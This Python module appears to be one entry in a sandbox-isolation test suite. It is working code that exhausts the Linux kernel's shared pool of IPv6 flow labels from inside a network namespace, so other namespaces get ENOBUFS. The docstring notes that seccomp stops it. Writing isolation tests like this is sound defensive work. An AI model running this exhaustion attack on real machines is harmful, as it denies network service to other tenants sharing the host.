"""Use up the machine's flow labels of IPv6.

Technique: The kernel has one pool of 4096 flow labels for all network namespaces, refuses a label to the unprivileged
    when three quarters are taken, and keeps one that was given back for six seconds more. Who takes them from within
    a network namespace of their own takes them from everybody.
Success: the pool is empty: even a socket that has no label yet gets none (ENOBUFS).
Stopped by: seccomp
"""

import ast
import socket
import struct

IPV6_FLOWLABEL_MGR, GET, CREATE, EXCLUSIVE = 32, 0, 1, 1


def take(one):
    # struct in6_flowlabel_req: destination, label, action, share, flags, expires, linger, padding.
    request = struct.pack("!16sI", socket.inet_pton(socket.AF_INET6, "::1"), 0) + struct.pack(
        "BBHHHI", GET, EXCLUSIVE, CREATE, 0, 0, 0
    )
    one.setsockopt(socket.IPPROTO_IPV6, IPV6_FLOWLABEL_MGR, request)


def take_what_is_left(held, taken):
    """Takes labels until the kernel refuses one even to a socket that has none, or a process has sockets enough."""
    labels_of_a_socket = 32
    while len(held) < 900:
        one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        held.append(one)
        for number in range(labels_of_a_socket):
            told = answer(take, one)
            if told == "ENOBUFS" and number:
                # Half of the pool is gone: from now on only the first label of a socket is granted.
                labels_of_a_socket = 1
                break
            if told is not None:
                return told, taken
            taken += 1
    return None, taken


def attack():
    held = []
    told, taken = take_what_is_left(held, 0)
    if told is None:
        # Another process has as many again; the first keeps what it has.
        told, taken = ast.literal_eval(forked(lambda: [one.close() for one in held] and take_what_is_left([], taken)))
    return told == "ENOBUFS" and f"{taken} labels taken, and nobody gets another: {told}"


def twin():
    """Packets over IPv6 on the loopback arrive, with the options that servers set."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        one.bind(("::1", 0))
        one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 3)
        one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 1)
        one.sendto(b"hello", one.getsockname())
        assert one.recv(10) == b"hello"
